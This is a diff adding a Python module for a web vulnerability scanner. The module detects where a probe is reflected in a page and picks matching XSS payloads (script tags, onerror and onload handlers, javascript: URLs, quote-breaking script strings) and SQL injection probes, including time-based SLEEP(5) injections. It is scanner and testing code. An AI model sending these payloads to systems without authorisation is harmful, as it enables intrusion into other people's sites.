@@ -0,0 +1,214 @@
+# payloads.py
+# Context-aware payload selection for the XSS and SQLi checks.
+#
+# Each parameter is first sent a harmless probe: a unique token followed by
+# the characters payloads depend on. Where the token comes back tells the
+# reflection context (element text, attribute value, JS string, ...) and
+# which of those characters survive unencoded. Only payloads that can work in
+# that context with those characters are sent, taken from a per-context table
+# of variants that is built (and URL-encoded) once and then cached.
+import re
+import secrets
+from functools import lru_cache
+from urllib.parse import parse_qsl, quote_plus, urlsplit, urlunsplit
+
+PROBE_CHARS = '\'"<>/`'
+PROBE_END = 'zq' # Marks where the probe characters stop in the response
+MAX_REFLECTIONS = 10 # Reflections of one probe looked at, at most
+RCDATA_TAGS = ('textarea', 'title') # Content is text until the closing tag, whatever it contains
+URL_ATTRIBUTES = ('href', 'src', 'action', 'formaction', 'data')
+PROBE_SEGMENT = re.compile(r'(vsc[0-9a-f]{8}).{0,64}?' + PROBE_END, re.S)
+ATTRIBUTE_VALUE = re.compile(r'''\s([\w:.-]+)\s*=\s*(?:"([^"]*)|'([^']*)|([^\s"'>]*))$''')
+
+SQL_ERROR_MARKERS = ('SQL syntax', 'mysql_fetch_array', 'ODBC', 'error in your SQL syntax')
+
+
+def split_url(url):
+    """Return (url without query, [(key, value), ...]); keys without '=' get an empty value."""
+    parts = urlsplit(url)
+    base = urlunsplit((parts.scheme, parts.netloc, parts.path, '', ''))
+    return base, parse_qsl(parts.query, keep_blank_values=True)
+
+
+def encode_params(params):
+    """Encode every parameter once, so each test URL is a join rather than a full urlencode."""
+    return [(quote_plus(key), quote_plus(value)) for key, value in params]
+
+
+def url_with(base, encoded, index, encoded_value):
+    """Test URL with parameter ``index`` set to an already-encoded value."""
+    return base + '?' + '&'.join(f"{key}={encoded_value if i == index else value}"
+                                 for i, (key, value) in enumerate(encoded))
+
+
+def make_token():
+    return 'vsc' + secrets.token_hex(4)
+
+
+def probe_value(token):
+    return token + PROBE_CHARS + PROBE_END
+
+
+def _js_quote(code):
+    """The string quote open at the end of a script fragment, or '' in code."""
+    quote, escaped = '', False
+    for ch in code:
+        if escaped:
+            escaped = False
+        elif ch == '\\':
+            escaped = True
+        elif quote:
+            if ch == quote:
+                quote = ''
+        elif ch in '\'"`':
+            quote = ch
+    return quote
+
+
+def _inside(lower, pos, tag):
+    """Start of the body of an unclosed <tag> before pos, or -1."""
+    start = lower.rfind('<' + tag, 0, pos)
+    if start == -1 or start < lower.rfind('</' + tag, 0, pos):
+        return -1
+    end = lower.find('>', start, pos)
+    return -1 if end == -1 else end + 1
+
+
+def reflection_context(text, lower, pos):
+    """(kind, detail) of the position ``pos`` in an HTML page; ``lower`` is text.lower()."""
+    if lower.rfind('<!--', 0, pos) > lower.rfind('-->', 0, pos):
+        return 'comment', ''
+    body = _inside(lower, pos, 'script')
+    if body != -1:
+        return 'script', _js_quote(text[body:pos])
+    for tag in RCDATA_TAGS:
+        if _inside(lower, pos, tag) != -1:
+            return 'rcdata', tag
+    tag_start = lower.rfind('<', 0, pos)
+    if tag_start > lower.rfind('>', 0, pos):
+        match = ATTRIBUTE_VALUE.search(text, tag_start, pos)
+        if match is None:
+            return 'tag', '' # Tag or attribute name position
+        quote = '"' if match.group(2) is not None else "'" if match.group(3) is not None else ''
+        return ('url_attr' if match.group(1).lower() in URL_ATTRIBUTES else 'attr'), quote
+    return 'html', ''
+
+
+def _survivors(segment):
+    """Probe characters that came back as themselves (not entity-encoded, stripped or backslash-escaped)."""
+    return frozenset(ch for ch in PROBE_CHARS
+                     if any(i == 0 or segment[i - 1] != '\\' for i, c in enumerate(segment) if c == ch))
+
+
+def _occurrences(text, token):
+    start = 0
+    for _ in range(MAX_REFLECTIONS):
+        pos = text.find(token, start)
+        if pos == -1:
+            return
+        start = pos + len(token)
+        yield pos, start
+
+
+def find_reflections(text, token):
+    """[(context, surviving characters), ...] for each place the probe token is echoed."""
+    survivors = []
+    for pos, start in _occurrences(text, token):
+        end = text.find(PROBE_END, start, start + 64)
+        survivors.append(_survivors(text[start:end]) if end != -1 else frozenset())
+    if not survivors:
+        return []
+    # Contexts are read with every probe's characters taken out, so one field's probe
+    # (or this one's) cannot open a quote or tag that is not really in the page
+    clean = PROBE_SEGMENT.sub(r'\1', text)
+    lower = clean.lower()
+    contexts = [reflection_context(clean, lower, pos) for pos, _ in _occurrences(clean, token)]
+    return list(zip(contexts, survivors))
+
+
+def _variants(family_payloads):
+    # (family, payload, URL-encoded payload, characters it needs unencoded)
+    return tuple((family, payload, quote_plus(payload), frozenset(ch for ch in payload if ch in PROBE_CHARS))
+                 for family, payload in family_payloads)
+
+
+@lru_cache(maxsize=None)
+def xss_variants(kind, detail=''):
+    """Payloads that can execute from a (kind, detail) context, most likely to work first."""
+    tags = [('script-tag', "<script>alert(1)</script>"),
+            ('img-onerror', "<img src=x onerror=alert(1)>"),
+            ('svg-onload', "<svg onload=alert(1)>"),
+            ('script-tag-mixed-case', "<ScRiPt>alert(1)</sCrIpT>")]
+    if kind == 'html':
+        return _variants(tags)
+    if kind == 'rcdata':
+        return _variants([(f"close-{detail}", f"</{detail}>{payload}") for family, payload in tags[1:3]])
+    if kind == 'comment':
+        return _variants([('close-comment', f"-->{payload}") for family, payload in tags[1:3]])
+    if kind == 'tag':
+        return _variants([('event-handler', " onmouseover=alert(1) x="),
+                          ('close-tag', "><img src=x onerror=alert(1)>")])
+    if kind in ('attr', 'url_attr'):
+        q = detail
+        variants = [('javascript-url', "javascript:alert(1)")] if kind == 'url_attr' else []
+        variants += [('event-handler', f"{q} autofocus onfocus=alert(1) x={q}"),
+                     ('close-attribute', f"{q}><img src=x onerror=alert(1)>"),
+                     ('close-attribute-svg', f"{q}><svg onload=alert(1)>")]
+        return _variants(variants)
+    if kind == 'script':
+        q = detail
+        if q == '`':
+            variants = [('template-expression', "${alert(1)}"), ('close-template', "`-alert(1)-`")]
+        elif q:
+            variants = [('close-string', f"{q};alert(1)//"), ('close-string-expression', f"{q}-alert(1)-{q}")]
+        else:
+            variants = [('expression', "-alert(1)-"), ('statement', ";alert(1)//")]
+        # </script> ends the block even inside a JS string
+        return _variants(variants + [('close-script', "</script><img src=x onerror=alert(1)>")])
+    return ()
+
+
+def describe_context(context):
+    kind, detail = context
+    names = {'"': 'double-quoted', "'": 'single-quoted', '`': 'template', '': 'unquoted'}
+    if kind == 'script':
+        return f"JS {names[detail]} string" if detail else "JS code"
+    if kind in ('attr', 'url_attr'):
+        return f"{names[detail]} {'URL ' if kind == 'url_attr' else ''}attribute value"
+    if kind == 'rcdata':
+        return f"<{detail}> text"
+    return {'html': 'HTML body', 'comment': 'HTML comment', 'tag': 'inside a tag'}[kind]
+
+
+def xss_candidates(reflections):
+    """Ordered [(context, family, payload, encoded payload), ...] worth sending for these reflections."""
+    candidates, seen = [], set()
+    for context, survived in reflections:
+        for family, payload, encoded, needs in xss_variants(*context):
+            if needs <= survived and payload not in seen:
+                seen.add(payload)
+                candidates.append((context, family, payload, encoded))
+    return candidates
+
+
+def value_kind(value):
+    return 'numeric' if re.fullmatch(r'-?\d+(\.\d+)?', value) else 'string'
+
+
+@lru_cache(maxsize=None)
+def sqli_variants(kind):
+    """Error-based then time-based payloads appended to a value of this kind."""
+    variants = [('error-quote', "'"), ('error-double-quote', '"')]
+    if kind == 'numeric':
+        variants.append(('time', " AND SLEEP(5)")) # Time-based, careful with this on production
+    else:
+        variants.append(('time', "' AND SLEEP(5) AND '1'='1"))
+    return _variants(variants)
+
+
+def sql_error(text):
+    """The first SQL error marker in a page, or None."""
+    for marker in SQL_ERROR_MARKERS:
+        if marker in text:
+            return marker
+    return None